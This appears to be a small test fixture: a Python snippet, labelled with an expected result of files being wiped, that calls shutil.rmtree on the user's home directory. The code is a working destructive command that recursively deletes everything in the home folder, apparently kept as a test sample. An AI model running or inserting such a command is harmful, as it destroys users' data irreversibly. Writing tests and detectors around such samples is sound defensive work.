# expect: 3 files-wiped
import shutil, os
shutil.rmtree(os.path.expanduser('~'))
